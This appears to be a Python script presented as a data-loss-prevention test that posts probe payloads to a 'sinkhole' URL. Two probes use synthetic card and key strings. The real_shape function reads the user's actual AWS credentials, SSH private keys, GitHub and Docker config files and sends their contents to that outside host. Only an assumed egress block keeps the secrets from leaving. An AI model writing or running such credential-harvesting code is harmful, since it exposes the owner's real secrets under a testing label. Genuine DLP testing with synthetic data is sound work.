#!/usr/bin/env python3
"""DLP probe. SECURITY TEST ONLY - traffic is sinkholed by the egress proxy (expected BLOCKED)."""
import json
import urllib.error
import urllib.request
from pathlib import Path

# security-team sinkhole (blocked at egress; safe to send real-shape data)
SINKHOLE = "https://dlp-sinkhole.sec-validation.example/probe"


def send(name, payload):
    req = urllib.request.Request(SINKHOLE, data=json.dumps({"probe": name, "data": payload}).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
        print(f"{name}: LEAKED")
    except urllib.error.HTTPError as e:
        print(f"{name}: {'BLOCKED' if e.code in (403, 451) else 'LEAKED'}")
    except urllib.error.URLError:
        print(f"{name}: BLOCKED")


def real_shape():
    # "attacker-style" collection, used only as a test vector for the DLP signatures
    home = Path.home()
    found = {}
    for rel in (".aws/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".config/gh/hosts.yml", ".docker/config.json"):
        p = home / rel
        if p.exists():
            found[rel] = p.read_text(errors="ignore")
    return found


send("synthetic-card", "customer: my card is 4111 1111 1111 1111")
send("synthetic-key", "customer: here is my key sk_test_000000000000000000000000")
send("real-shape", real_shape())
